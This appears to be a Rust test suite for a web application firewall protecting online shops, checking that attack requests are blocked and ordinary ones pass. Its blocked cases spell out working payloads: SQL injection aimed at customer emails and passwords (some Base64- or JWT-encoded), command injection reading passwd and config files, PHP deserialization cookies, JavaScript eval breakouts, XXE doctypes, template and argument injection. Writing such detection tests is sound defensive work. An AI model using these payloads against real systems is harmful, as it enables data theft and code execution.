//! Places that were not looked at: header fields with a syntax of their own, and bodies that say they are pictures.

use storeward_inspect::Verdict;

use crate::exchange::{Exchange, multipart};

const ATTACK: &str = "%' UNION SELECT email,password FROM customers--";

#[test]
fn fields_that_a_shop_may_read_are_looked_at() {
    for name in ["Accept-Language", "If-None-Match", "Accept", "Range"] {
        let verdict = Exchange::get("/").header(name, ATTACK).verdict();
        assert!(verdict.is_block(), "{name}: {verdict:?}");
    }
    // "%' union select email,password from customers--:x"
    let user = "Basic JScgdW5pb24gc2VsZWN0IGVtYWlsLHBhc3N3b3JkIGZyb20gY3VzdG9tZXJzLS06eA==";
    assert!(Exchange::get("/").header("Authorization", user).verdict().is_block());
    for (name, value) in [
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
        ),
        ("Accept", "text/*;q=0.3, text/html;level=1, */*"),
        ("Accept-Language", "de-CH,de;q=0.9,en-US;q=0.8,en;q=0.7"),
        ("If-None-Match", "W/\"67-19c8'(a)\", \"x-y_z--1\""),
        ("If-Modified-Since", "Thu, 26 Nov 2026 01:00:00 GMT"),
        ("Range", "bytes=0-499, -500"),
        ("Authorization", "Basic YWRtaW46aHVudGVyMg=="),
        ("Authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln"),
    ] {
        let verdict = Exchange::get("/").header(name, value).verdict();
        assert_eq!(verdict, Verdict::Pass, "{name}: {value}");
    }
}

#[test]
fn a_content_type_does_not_switch_inspection_off() {
    let body = format!("{{\"q\":\"{ATTACK}\"}}");
    for kind in ["image/png", "application/octet-stream", "application/pdf", "font/x", "video/mp4"] {
        assert!(Exchange::post(kind, body.as_str()).verdict().is_block(), "{kind}");
    }
    let picture = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR' or 1=1--".to_vec();
    assert_eq!(Exchange::post("image/png", picture).verdict(), Verdict::Pass);
}

/// A comma is what SQL wants between two columns, and some shops join by a blank.
#[test]
fn an_attack_spread_over_a_list_is_seen() {
    for query in [
        "ids[]=0)+union+select+user_login&ids[]=user_pass+from+wp_users+--+-",
        "q=x%27)+union+select+user_login&q=user_pass+from+wp_users--+",
        "q=x%27+union&q=select+user_login,&q=user_pass+from&q=wp_users--+",
        "q[]=%25%27+UNION/*&q[]=*/SELECT+email/*&q[]=*/FROM+customers--",
        "a[x]=0)+union+select+user_login&b=1&a[y]=user_pass+from+wp_users+--+-",
    ] {
        assert!(Exchange::get("/").query(query).verdict().is_block(), "{query}");
    }
    let json = r#"{"ids":["0) union select user_login","user_pass from wp_users -- -"]}"#;
    assert!(Exchange::post("application/json", json).verdict().is_block());
    for query in [
        "size[]=L&size[]=XL&size[]=10",
        "tag[]=rock+%27n%27+roll&tag[]=mother%27s+day&tag[]=men%27s+shoes",
        "note[]=Please+select+a+size&note[]=from+the+list&note[]=or+call",
        "filter[]=price+asc&filter[]=name+desc&filter[]=5+or+more",
        "q=credit+union&q=select+card",
    ] {
        assert_eq!(Exchange::get("/").query(query).verdict(), Verdict::Pass, "{query}");
    }
}

/// A browser quotes the page's own script in its reports: whoever tries a policy out must not lose visitors over it.
#[test]
fn a_browser_s_report_is_no_attack() {
    for sample in [
        "window.location='/cart'",
        "document.getElementById('x').submit();",
        "return confirm('Delete?')",
        "javascript:void(0)",
        "document.body.classList.add('js')",
        "location.href='/product/5'",
    ] {
        let old = format!(
            "{{\"csp-report\":{{\"document-uri\":\"https://shop.example/\",\"blocked-uri\":\"inline\",\
             \"script-sample\":\"{sample}\"}}}}"
        );
        let new = format!(
            "[{{\"type\":\"csp-violation\",\"url\":\"https://shop.example/\",\"body\":{{\"sample\":\"{sample}\"}}}}]"
        );
        for (kind, body) in [("application/csp-report", &old), ("application/reports+json", &new)] {
            assert_eq!(Exchange::post(kind, body.as_str()).verdict(), Verdict::Pass, "{kind}: {sample}");
        }
        if sample.contains("document.") {
            assert!(Exchange::post("application/json", old.as_str()).verdict().is_block(), "{sample}");
        }
    }
    for body in [
        format!("{{\"csp-report\":{{\"document-uri\":\"{ATTACK}\"}}}}"),
        format!("{{\"csp-report\":{{\"script-sample\":\"{}{ATTACK}\"}}}}", "x".repeat(160)),
        format!("{{\"q\":{{\"script-sample\":\"{ATTACK}\"}}}}"),
    ] {
        assert!(Exchange::post("application/csp-report", body.as_str()).verdict().is_block(), "{body}");
    }
}

#[test]
fn odd_fields_and_known_holes_are_stopped() {
    for (name, value) in [
        ("X-Middleware-Subrequest", "middleware:middleware:middleware"),
        ("Authorization", "Bearer x' union select 1,2--"),
        ("Cookie", "a=Tzo4OiJzdGRDbGFzcyI6MTp7czoxOiJhIjtpOjE7fQ%3D%3D"),
        ("Cookie", "a=TzoxMjoiTW9ub2xvZ0hhbmRsZXIiOjA6e30="),
    ] {
        assert!(Exchange::get("/").header(name, value).verdict().is_block(), "{name}: {value}");
    }
    queries_of_known_holes();
    let magento = r#"{"address":{"totalsCollector":{"sourceData":{"data":"http://e.x/","dataIsURL":true}}}}"#;
    assert!(Exchange::post("application/json", magento).verdict().is_block());
}

#[test]
fn what_stands_sealed_in_fields_is_opened() {
    for (name, value) in [
        // Went through: schemes other than Bearer, and none at all.
        ("Authorization", "Token x' union select 1,2--"),
        ("Authorization", "Token token=\"x' union select 1,2--\""),
        ("Authorization", "x' union select 1,2--"),
        ("Authorization", "x'||(select 1)||'"),
        ("Authorization", "Digest username=\"a' or 1=1--\", realm=\"r\", uri=\"/\""),
        ("Authorization", "Digest username=\"a' or 1=1--"),
        ("Authorization", "ApiKey ../../../../etc/passwd"),
        ("Authorization", "ApiKey ;cat /etc/hosts"),
        ("Authorization", "Custom <script>alert(1)</script>"),
        ("Proxy-Authorization", "Token x' union select 1,2--"),
        // The key's name of a token: `x' union select 'a'--`, and `../../../../../../dev/null`.
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIHVuaW9uIHNlbGVjdCAnYSctLSJ9.e30.c2ln"),
        ("Authorization", "JWT eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIHVuaW9uIHNlbGVjdCAnYSctLSJ9.e30.c2ln"),
        ("Authorization", "eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIHVuaW9uIHNlbGVjdCAnYSctLSJ9.e30.c2ln"),
        ("Cookie", "t=eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIHVuaW9uIHNlbGVjdCAnYSctLSJ9.e30.c2ln"),
        ("X-Token", "eyJhbGciOiJIUzI1NiIsImtpZCI6IngnIHVuaW9uIHNlbGVjdCAnYSctLSJ9.e30.c2ln"),
        (
            "Authorization",
            "Bearer eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uLy4uLy4uLy4uL2Rldi9udWxsIn0.e30.c2ln",
        ),
        // a:1:{i:0;O:8:"stdClass":0:{}}, and C:11:"ArrayObject":21:{x:i:0;a:0:{};m:a:0:{}}
        ("Cookie", "a=YToxOntpOjA7Tzo4OiJzdGRDbGFzcyI6MDp7fX0="),
        ("Cookie", "a=YToxOntpOjA7Tzo4OiJzdGRDbGFzcyI6MDp7fX0%3D"),
        ("Cookie", "a=QzoxMToiQXJyYXlPYmplY3QiOjIxOnt4Omk6MDthOjA6e307bTphOjA6e319"),
        ("Cookie", "a=AAEAAAD/////AQAAAAAAAAAMAgAAAF"),
    ] {
        assert!(Exchange::get("/").header(name, value).verdict().is_block(), "{name}: {value}");
    }
}

#[test]
fn credentials_of_every_usual_scheme_pass() {
    for value in [
        "Bearer 12|aB3dE_f-g.h~i+j/k==",
        "Bearer eyJhbGciOiJFUzI1NiJ9.e30.c2ln",
        // {"alg":"RS256","typ":"JWT","kid":"2024-01-key/a+b=="}
        "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjIwMjQtMDEta2V5L2ErYj09In0.e30.c2ln",
        "Digest username=\"Mufasa\", realm=\"http-auth@example.org\", uri=\"/dir/index.html?a=1&b=2\", algorithm=SHA-256, \
         nonce=\"7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v\", nc=00000001, cnonce=\"f2/wE4q74E6zIJEtWaHKaf5wv/H5QzzpXusqGemxURZJ\", \
         qop=auth, response=\"753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1\", opaque=\"FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS\"",
        "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, \
         SignedHeaders=content-type;host;range;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7",
        "Signature keyId=\"https://shop.example/u/a#main-key\",algorithm=\"rsa-sha256\",headers=\"(request-target) host date digest\",signature=\"cjMydW5hYmxlPT0=\"",
        "OAuth oauth_consumer_key=\"dpf43f3p2l4k3l03\", oauth_signature_method=\"HMAC-SHA1\", oauth_signature=\"tR3%2BTy81lMeYAr%2FFid0kMTYa%2FWM%3D\"",
        "OAuth realm=\"https://shop.example/rest/V1/\",oauth_token=\"ad180jjd733klru7\",oauth_timestamp=\"137131200\",oauth_version=\"1.0\"",
        "Token token=\"0123456789abcdef\", version=\"2\"",
        "Hawk id=\"dh37fgj492je\", ts=\"1353832234\", nonce=\"j4h3g2\", ext=\"some-app-ext-data\", mac=\"6R4rV5iE+NPoym+WwjeHzjAGXUtLNIxmo1vpMofpLAE=\"",
        "Negotiate oYICCzCCAgegAwoBAKIiBCDdGoUDSB9n==",
        "apikey:0123-4567",
    ] {
        assert_eq!(Exchange::get("/").header("Authorization", value).verdict(), Verdict::Pass, "{value}");
    }
}

fn queries_of_known_holes() {
    for query in [
        "s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo",
        "host=127.0.0.1%0aid",
        "host=x;cat<x",
        "q=%27;{eval(name)}%27",
        "q=%27;x:{eval(name)}%27",
        "q=%27;try{eval(name)}catch{}%27",
        "q=%27;class+x{static{eval(name)}}%27",
        "q=%27;eval%0a(name);%27",
        "q=%27.at.constructor(name)()%2B%27",
        "q=%27;{location=name}%27",
        "q=%27in{[import(%27//e.x%27)]:1}%2B%27",
        // A string is left by any operator; a comment or a line's end stands before the bracket.
        "q=%27;eval/*x*/%0a(name);%27",
        "q=%27;eval//x%0a(name);%27",
        "q=%27-alert/*x*/(name)-%27",
        "q=%27-alert%0a(name)-%27",
        "q=%27-alert//x%0d(name)-%27",
        "q=%27instanceof%20eval(name)in%27",
        "q=%27instanceof+alert(name)in%27",
        "q=%27in+confirm(name)in%27",
        "q=%27%25eval(name)%25%27",
        "q=%27%3Ceval(name)%3C%27",
        "q=%27==eval(name)==%27",
        "q=%27!=eval%20(name)%27",
        "q=%27**eval(name)**%27",
        "q=%27~eval?.(name)%27",
        "q=%27-eval?.%20(name)-%27",
        "q=%27-(0,eval)(name)-%27",
        "q=%27-eval.call(0,name)-%27",
        "q=%27-Reflect.apply(eval,0,[name])-%27",
        "q=%27-[eval][0](name)-%27",
        "q=%27-setTimeout%60name%60-%27",
        "host=a|cat+x",
        "host=a|+cat+x",
        "host=a|tac+somefile",
        "host=a|grep+root+users",
        "host=a|head+./x",
        "host=a|tail+/x",
        "host=a|cat+passwd",
        "host=a|cat+db_config",
    ] {
        assert!(Exchange::get("/").query(query).verdict().is_block(), "{query}");
    }
}

#[test]
fn a_document_type_is_known_however_far_behind_its_name() {
    let xml = "<!DOCTYPE r PUBLIC \"-//x\" \"http://e/x.dtd\"><r/>";
    assert!(Exchange::post("application/xml", xml).verdict().is_block());
    for (letters, blanks) in [("SYSTEM", 260), ("PUBLIC \"-//x\"", 260), ("SYSTEM", 5_000), ("[", 300)] {
        let xml = format!("<!DOCTYPE r{}{letters} \"http://e/x.dtd\"><r/>", " ".repeat(blanks));
        assert!(Exchange::post("application/xml", xml.as_str()).verdict().is_block(), "{letters} {blanks}");
        let xml = format!("<!DOCTYPE r{}{letters} \"http://e/x.dtd\"><r/>", "\n\t".repeat(blanks));
        assert!(Exchange::post("text/xml", xml.as_str()).verdict().is_block(), "{letters} {blanks}");
    }
}

/// Went through: a document that its reader decodes otherwise than we did.
#[test]
fn no_coding_hides_a_document_type() {
    let attack = "<?xml version='1.0'?><!DOCTYPE r SYSTEM 'http://e/x.dtd'><r/>";
    let utf_16 = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let long = format!("{attack}<!--{}-->", "x".repeat(200_000));
    for body in [
        utf_16(attack),
        utf_16(&format!("\u{feff}{attack}")),
        utf_16(&attack.replace("?>", " encoding='UTF-16'?>")),
        utf_16(&long),
        b"<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE r+AD4-".to_vec(),
        b"\xef\xbb\xbf<?xml version=\"1.0\" encoding = \"IBM037\" ?><r/>".to_vec(),
        b"\x4c\x6f\xa7\x94\x93\x40".to_vec(),
    ] {
        let shown = String::from_utf8_lossy(body.get(..60).unwrap_or(&body)).into_owned();
        assert!(Exchange::post("application/xml", body).verdict().is_block(), "{shown}");
    }
    let order = "<?xml version='1.0' encoding='UTF-16'?><order><id>5</id></order>";
    for body in [
        utf_16(&format!("\u{feff}{order}")),
        order.replace("UTF-16", "utf-8").into_bytes(),
        order.replace("UTF-16", "ISO-8859-1").into_bytes(),
        b"<order encoding='x'/>".to_vec(),
    ] {
        assert_eq!(Exchange::post("application/xml", body).verdict(), Verdict::Pass);
    }
}

#[test]
fn files_that_a_server_runs_are_no_uploads() {
    let runs = "a.cer a.soap a.hphp a.module a.CER a.cer. a.cer;.jpg a.asax a.ascx a.cshtml a.vbhtml a.svc a.stm a.shtm a.pl a.pm a.lua a.so a.wsf a.vbe a.cfc a.jhtml a.install a.engine a.theme a.profile a.lnk a.ctp a.idc a.cdx a.htr app.config web.config a.inc";
    for name in runs.split(' ') {
        assert!(multipart("f", Some(name), "x").verdict().is_block(), "{name}");
    }
    let plain = "a.certificate.pdf my.module.jpg theme.png profile.jpg soap.jpg invoice.com.pdf photo.pl.jpg a.so.txt installation.pdf IMG_0001.HEIC lebenslauf.docx order.csv list.xlsx sign.p7s plan.dwg notes.md a.config.pdf";
    for name in plain.split(' ') {
        assert_eq!(multipart("f", Some(name), "x").verdict(), Verdict::Pass, "{name}");
    }
}

/// Went through: script that the shop's own framework makes of an attribute, and other languages of servers.
#[test]
fn what_a_shops_framework_runs_is_no_visitors() {
    for text in [
        r#"<b data-mage-init='{"text!//e.x/a":{}}'>Nice</b>"#,
        r#"<div x-data x-init="$el.ownerDocument.defaultView.eval(name)">"#,
        r#"<b v-on:click="$event.view.eval(name)">"#,
        "<b hx-get=//e.x/a hx-trigger=load>",
        "<b data-hx-get=//e.x/a>",
        r#"<b data-bind="click:eval(name)">"#,
        "<b ng-app ng-csp ng-click=$event.view.alert(1)>",
        "<b x-data x-html=name>",
        "<b @click=x>",
        "<b @click.window=x>",
        "<b/X-INIT=x>",
        "<b\nx-init=x>",
        "<p class=\"a\" wire:init=\"x\">",
        "<b _='on load call x()'>",
        "<b v-html=name>",
        "<b x-bind:src=name>",
        "<b data-ng-init=x>",
        "<esi:include src=http://e/>",
        "<ESI:remove>",
        "{{print 1}}",
        "{{ printf \"%s\" . }}",
        "{%debug%}",
        "{%- debug -%}",
        "@System.DateTime.Now",
        "x @System.IO.File.ReadAllText(1)",
        "!!python/object/apply:os.system",
        "!!javax.script.ScriptEngineManager []",
        "_$$ND_FUNC$$_function(){}",
        "-oProxyCommand=id",
        "--output=/var/www/x.php",
        "--upload-pack=id",
        "<(id)",
        "x <(ls)",
    ] {
        let query = format!("q={}", crate::exchange::url_encode(text));
        assert!(Exchange::get("/").query(&query).verdict().is_block(), "{text}");
    }
}
